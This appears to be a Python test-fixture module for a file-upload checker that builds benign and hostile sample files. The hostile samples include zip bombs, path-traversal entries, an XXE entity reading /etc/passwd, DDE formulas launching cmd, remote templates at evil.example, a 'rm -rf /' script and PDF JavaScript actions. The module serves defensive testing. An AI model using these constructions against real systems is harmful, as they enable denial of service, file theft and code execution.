"""Files, honest and hostile, made here byte by byte; nothing is downloaded and nobody in them exists."""

import base64
import io
import stat
import struct
import zipfile
import zlib

from caseward.foundation.storage.checking import signs


CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/\
content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.\
wordprocessingml.document.main+xml"/></Types>"""
DOCUMENT = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="urn:w"><w:body><w:p><w:r>\
<w:t>Concern about Rowan Example</w:t></w:r></w:p></w:body></w:document>"""
RELATIONS = '<Relationships xmlns="urn:r">{}</Relationships>'
RELATION = '<Relationship Id="r1" Type="urn:x/{}" Target="{}" TargetMode="External"/>'
WORKBOOK = '<?xml version="1.0"?><workbook><sheets/></workbook>'
OPEN_TEXT = "application/vnd.oasis.opendocument.text"


def zipped(entries: dict[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries.items():
            package.writestr(name, content)
    return target.getvalue()


def docx() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT})


def docx_with(name: str, content: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT, name: content})


def docx_pointing(kind: str, target: str) -> bytes:
    return docx_with("word/_rels/document.xml.rels", RELATIONS.format(RELATION.format(kind, target)))


def xlsx(name: str = "xl/worksheets/sheet1.xml", sheet: str = "<worksheet/>") -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK, name: sheet})


def odt(content: str = "<office:document-content/>", **more: str) -> bytes:
    return zipped({"mimetype": OPEN_TEXT, "content.xml": content, **more})


def with_entry(**changes: object) -> bytes:
    """A Word document with one more entry, some of whose claims are set by hand."""
    target = io.BytesIO(docx())
    entry = zipfile.ZipInfo(str(changes.pop("filename", "word/more.xml")))
    for name, value in changes.items():
        setattr(entry, name, value)
    with zipfile.ZipFile(target, "a") as package:
        package.writestr(entry, "<x/>")
    return target.getvalue()


def encrypted_zip_entry() -> bytes:
    """The encryption flag set on every entry, in the headers and in the index."""
    data = bytearray(docx())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(magic)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(magic, place + 4)
    return bytes(data)


def lying_bomb() -> bytes:
    """Ten megabytes of nothing, which the index says are ten bytes."""
    data = bytearray(docx_with("word/bomb.xml", bytes(10_000_000)))
    for magic, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rfind(magic)
        data[place + offset : place + offset + 4] = struct.pack("<I", 10)
    return bytes(data)


def honest_bomb(gigabytes: int = 10) -> bytes:
    """A package whose entries all unpack to a gigabyte, by its own index; the packed zeros are shared."""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = block.compress(bytes(1_000_000)) + block.flush()
    data = bytearray(docx())
    names = [f"word/bomb{number}.xml".encode() for number in range(gigabytes)]
    index_at = data.find(b"PK\x01\x02")
    index, bodies = bytes(data[index_at:-22]), bytearray()
    for name in names:
        at = index_at + len(bodies)
        head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(packed), 10**9, len(name), 0)
        bodies += b"PK\x03\x04" + head + name + packed
        index += b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name
    count = 2 + gigabytes
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(index), index_at + len(bodies), 0)
    return bytes(data[:index_at]) + bytes(bodies) + index + b"PK\x05\x06" + end


def nested_zips(deep: int) -> bytes:
    data = b"the end"
    for level in range(deep):
        data = zipped({f"level{level}.zip": data})
    return data


def nested_documents(deep: int) -> bytes:
    data = docx()
    for _ in range(deep):
        data = docx_with("word/embeddings/Document.docx", data)
    return data


def pdf(body: bytes = b"", *, head: bytes = b"%PDF-1.7\n", tail: bytes = b"%%EOF\n") -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = b"2 0 obj\n<< /Type /Pages /Count 0 /Kids [] >>\nendobj\n"
    return head + catalog + pages + body + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n" + tail


def pdf_stream(content: bytes, *, kind: bytes = b"/ObjStm") -> bytes:
    packed = zlib.compress(content)
    return b"9 0 obj\n<< /Type %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        kind,
        len(packed),
        packed,
    )


def png(width: int = 2, height: int = 2, *, end: bool = True, tail: bytes = b"") -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = chunk(b"IDAT", zlib.compress(bytes(14)))
    return b"\x89PNG\r\n\x1a\n" + header + rows + (chunk(b"IEND", b"") if end else b"") + tail


def jpeg(width: int = 2, height: int = 2, *, scan: bool = True) -> bytes:
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + bytes(9)
    start = b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00data\xff\xd9" if scan else b""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + frame + start


def gif(code: bytes = b"") -> bytes:
    return b"GIF89a" + code + bytes(20)


def program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)


def message(attachment: bytes = b"", name: str = "") -> bytes:
    head = (
        b"From: Dana Example <dana@school.example>\r\nTo: prevent@northshire.example\r\nSubject: A pupil\r\n"
        b"Date: Fri, 20 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    )
    if not attachment:
        return head + b"\r\nPlease call me about a pupil.\r\n"
    part = f'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n'
    return (
        head
        + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nSee attached.\r\n--b\r\n'
        + part.encode()
        + base64.encodebytes(attachment)
        + b"--b--\r\n"
    )


HONEST: dict[str, tuple[str, bytes]] = {
    "PDF": ("form.pdf", pdf()),
    "DOCX": ("form.docx", docx()),
    "XLSX": ("list.xlsx", xlsx()),
    "ODT": ("form.odt", odt()),
    "PNG": ("photo.png", png()),
    "JPEG": ("photo.JPG", jpeg()),
    "TXT": ("note.txt", "Zoë said: “call me”.\r\n".encode()),
    "EML": ("referral.eml", message()),
}
HONEST_TOO: dict[str, tuple[str, bytes, str]] = {
    "a name without an ending": ("form", pdf(), "PDF"),
    "a picture called by its sister's name": ("photo.jpg", png(), "PNG"),
    "a note that begins like a message": ("note.txt", message(), "TXT"),
    "text in UTF-16": ("note.txt", "A note — naïve".encode("utf-16"), "TXT"),
    "text in Windows-1252": ("note.txt", "Caf\xe9 at ten \x96 called".encode("latin-1"), "TXT"),
    "text that begins like a program": ("note.txt", b"MZ was seen in a BMW", "TXT"),
    "a document with a link": ("form.docx", docx_pointing("hyperlink", "https://school.example"), "DOCX"),
    "a document with a local template": (
        "form.docx",
        docx_pointing("attachedTemplate", "file:///C:\\Templates\\Force.dotm"),
        "DOCX",
    ),
    "a document with a chart": ("form.docx", docx_with("word/embeddings/Sheet1.xlsx", xlsx()), "DOCX"),
    "a PDF with a packed page": (
        "form.pdf",
        pdf(pdf_stream(b"0.1 0 0 0.1 0 0 cm (hello) Tj", kind=b"/X")),
        "PDF",
    ),
    "a PDF with a broken stream": (
        "form.pdf",
        pdf(b"9 0 obj\n<<>>\nstream\n\x78\x9cnonsense\nendstream\nendobj\n"),
        "PDF",
    ),
    "a message with a document": ("referral.eml", message(docx(), "form.docx"), "EML"),
    "a message with a PDF": ("referral.eml", message(pdf(), "form.pdf"), "EML"),
    "a message with a signature's picture": ("referral.eml", message(gif(), "logo.gif"), "EML"),
}
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing at all": ("note.txt", b"", "file.empty"),
    "a program called a PDF": ("form.pdf", program(), "file.program"),
    "a Linux program": ("form", b"\x7fELF" + bytes(60), "file.program"),
    "a shell script called a note": ("note.txt", b"#!/bin/sh\nrm -rf /\n", "file.program"),
    "a Windows shortcut": ("form.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "file.program"),
    "a PDF called a program": ("form.pdf.exe", pdf(), "file.misnamed"),
    "a Word document called a PDF": ("form.pdf", docx(), "file.misnamed"),
    "text called a script": ("form.js", b"alert(1)", "file.misnamed"),
    "a zip": ("forms.zip", zipped({"a.txt": "a"}), "file.archive"),
    "a zip called a Word document": ("form.docx", zipped({"a.txt": "a"}), "file.archive"),
    "zips nine deep": ("forms.zip", nested_zips(9), "file.archive"),
    "a Word document cut in half": ("form.docx", docx()[:300], "file.archive"),
    "gzip": ("form.gz", b"\x1f\x8b\x08" + bytes(30), "file.archive"),
    "old Word or locked Word": (
        "form.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "file.old-office",
    ),
    "rich text": ("form.txt", b"{\\rtf1 {\\object}}", "file.rich-text"),
    "SVG with a script": ("map.svg", b"<svg xmlns='x'><script>alert(1)</script></svg>", "file.markup"),
    "SVG called a PNG": ("map.png", b'<?xml version="1.0"?><svg/>', "file.markup"),
    "a web page called a note": ("note.txt", b"  <!-- x --><html><script>1</script>", "file.markup"),
    "GIF and JavaScript": ("photo.gif", gif(b"/*") + b"*/=1;alert(1)", "file.other-picture"),
    "GIF called a PNG": ("photo.png", gif(), "file.other-picture"),
    "noise": ("form.pdf", bytes(range(256)) * 4, "file.unknown"),
    "noise behind a harmless page": ("note.txt", b"harmless\n" * 1000 + b"\0\x01\x02", "file.unknown"),
    "the test virus": ("note.txt", signs.test_virus(), "file.test-virus"),
    "the test virus in a PDF": ("form.pdf", pdf(b"% " + signs.test_virus() + b"\n"), "file.test-virus"),
    "the test virus in a document": (
        "form.docx",
        docx_with("word/x.bin", signs.test_virus()),
        "file.test-virus",
    ),
    "a PDF with a zip behind it": ("form.pdf", pdf() + zipped({"a.txt": "a"}), "file.two-in-one"),
    "a PNG with a zip behind it": ("photo.png", png(tail=zipped({"a.txt": "a"})), "file.two-in-one"),
    "a PNG with something behind it": ("photo.png", png(tail=b"x"), "file.two-in-one"),
    "a JPEG with a zip behind it": ("photo.jpg", jpeg() + zipped({"a.txt": "a"}), "file.two-in-one"),
    "a PDF with a web page in its head": (
        "form.pdf",
        pdf(head=b"%PDF-1.7\n<html><script>1"),
        "file.two-in-one",
    ),
    "a PDF with a web page behind it": ("form.pdf", pdf() + b"<html>", "file.two-in-one"),
    "a program before a document": ("form.docx", program() + docx(), "file.program"),
    "something behind a document": ("form.docx", docx() + b"<html>", "file.archive"),
    "a PDF with JavaScript": (
        "form.pdf",
        pdf(b"3 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"),
        "file.script",
    ),
    "a PDF with hidden JavaScript": (
        "form.pdf",
        pdf(b"3 0 obj\n<< /S /J#61vaScript >>\nendobj\n"),
        "file.script",
    ),
    "a PDF with packed JavaScript": ("form.pdf", pdf(pdf_stream(b"3 0 << /S /JavaScript >>")), "file.script"),
    "a PDF that starts programs": ("form.pdf", pdf(b"3 0 obj\n<< /S /Launch >>\nendobj\n"), "file.script"),
    "a PDF with a file in it": (
        "form.pdf",
        pdf(b"3 0 obj\n<< /EmbeddedFiles 4 0 R >>\nendobj\n"),
        "file.embedded",
    ),
    "a locked PDF": ("form.pdf", pdf(tail=b"<< /Encrypt 5 0 R >>\n%%EOF"), "file.locked"),
    "a PDF cut short": ("form.pdf", pdf(tail=b""), "file.cut-short"),
    "a picture of 50,000 by 50,000": ("photo.png", png(50_000, 50_000), "file.pixel-flood"),
    "a photograph of 60,000 by 60,000": ("photo.jpg", jpeg(60_000, 60_000), "file.pixel-flood"),
    "a picture of no size": ("photo.png", png(0, 5), "file.cut-short"),
    "a picture cut short": ("photo.png", png(end=False), "file.cut-short"),
    "a photograph cut short": ("photo.jpg", jpeg(scan=False), "file.cut-short"),
    "a document that unpacks to 10 GB": ("form.docx", honest_bomb(), "file.bomb"),
    "a document that lies about its size": ("form.docx", lying_bomb(), "file.package-tricks"),
    "a document with macros": ("form.docx", docx_with("word/vbaProject.bin", b"x"), "file.macros"),
    "a workbook with macros": ("list.xlsx", xlsx("xl/vbaProject.bin", "x"), "file.macros"),
    "a document that says it has macros": (
        "form.docx",
        docx_with("word/x.xml", "<x t='MacroEnabled'/>"),
        "file.macros",
    ),
    "an OpenDocument with macros": ("form.odt", odt(**{"Basic/script-lc.xml": "<x/>"}), "file.macros"),
    "an OpenDocument that reacts": ("form.odt", odt("<script:event-listener/>"), "file.macros"),
    "a document with a template elsewhere": (
        "form.docx",
        docx_pointing("attachedTemplate", "https://evil.example/t.dotm"),
        "file.outside-content",
    ),
    "a document with a picture elsewhere": (
        "form.docx",
        docx_pointing("image", "\\\\evil.example\\x.png"),
        "file.outside-content",
    ),
    "an OpenDocument with a picture elsewhere": (
        "form.odt",
        odt('<draw:image xlink:type="simple" xlink:href="https://evil.example/x.png"/>'),
        "file.outside-content",
    ),
    "XML entities": (
        "form.docx",
        docx_with("word/x.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
        "file.entities",
    ),
    "XML entities in UTF-16": (
        "form.docx",
        docx_with("word/x.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'.encode("utf-16")),
        "file.entities",
    ),
    "XML entities in the relations": (
        "form.docx",
        docx_with("word/_rels/x.rels", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        "file.entities",
    ),
    "XML in a strange alphabet": (
        "form.docx",
        docx_with("word/x.xml", "<?xml version='1.0' encoding='UTF-7'?><x/>"),
        "file.entities",
    ),
    "a program in a document": ("form.docx", docx_with("word/media/image1.png", program()), "file.embedded"),
    "an object in a document": (
        "form.docx",
        docx_with("word/embeddings/oleObject1.bin", b"x"),
        "file.embedded",
    ),
    "documents three deep": ("form.docx", nested_documents(2), "file.embedded"),
    "a zip in a document": ("form.docx", docx_with("word/x.bin", zipped({"a": "b"})), "file.embedded"),
    "a workbook with DDE": (
        "list.xlsx",
        xlsx(sheet="<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"),
        "file.formula-runs",
    ),
    "a workbook with a DDE link": (
        "list.xlsx",
        xlsx("xl/externalLinks/l.xml", "<ddeLink/>"),
        "file.formula-runs",
    ),
    "a document with DDE": (
        "form.docx",
        docx_with("word/x.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"),
        "file.formula-runs",
    ),
    "a name that climbs": ("form.docx", with_entry(filename="../../evil.xml"), "file.package-tricks"),
    "a name from the root": ("form.docx", with_entry(filename="/etc/passwd"), "file.package-tricks"),
    "a link in a package": (
        "form.docx",
        with_entry(external_attr=(stat.S_IFLNK | 0o777) << 16),
        "file.package-tricks",
    ),
    "a locked package": ("form.docx", encrypted_zip_entry(), "file.package-tricks"),
    "two entries of one name": ("form.docx", with_entry(filename="WORD/document.xml"), "file.package-tricks"),
    "a message with a program": ("mail.eml", message(program(), "form.exe"), "file.bad-attachment"),
    "a message with a renamed program": ("mail.eml", message(program(), "form.pdf"), "file.bad-attachment"),
    "a message with a macro document": ("mail.eml", message(docx(), "form.docm"), "file.bad-attachment"),
    "a message with a zip": ("mail.eml", message(zipped({"a": "b"}), "forms.zip"), "file.bad-attachment"),
}
